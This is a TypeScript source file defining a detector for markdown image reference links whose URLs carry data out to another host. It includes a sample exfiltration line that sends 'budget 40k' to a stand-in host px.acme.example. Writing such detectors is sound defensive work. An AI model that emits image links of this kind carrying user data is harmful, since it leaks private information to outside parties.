import { leadsOut } from '../../attack/leads-out.ts';
import type { Recogniser } from '../../recogniser.ts';

const isPicture = /\.(?:png|jpe?g|gif|svg|webp|ico|bmp)(?:[?#]|$)/i;
const anyValue = leadsOut({ reference: 0.6 }, 0.7, (carried) => carried < 0.8);

/** The address of a picture, written apart from it: `![s][a]` and, anywhere else, `[a]: //host/s.png?d=...`. */
export const reference: Recogniser = {
  type: 'exfiltration.reference',
  name: 'Picture by reference whose address carries data',
  exceptable: false,
  forms: [{ ...anyValue, accepts: (match, before) => isPicture.test(match) && anyValue.accepts!(match, before) }],
  source: 'CommonMark, link reference definitions',
  since: '0.2.0',
  finds: ['Summary below.\n\n![s][a]\n\n[a]: «//px.acme.example/s.png?d=budget%2040k»'],
  ignores: [
    '[a]: https://cdn.acme.example/s.png?w=600',
    '[a]: https://acme.example/s?d=budget%2040k',
    '[a]: s.png?d=budget%2040k',
  ],
};
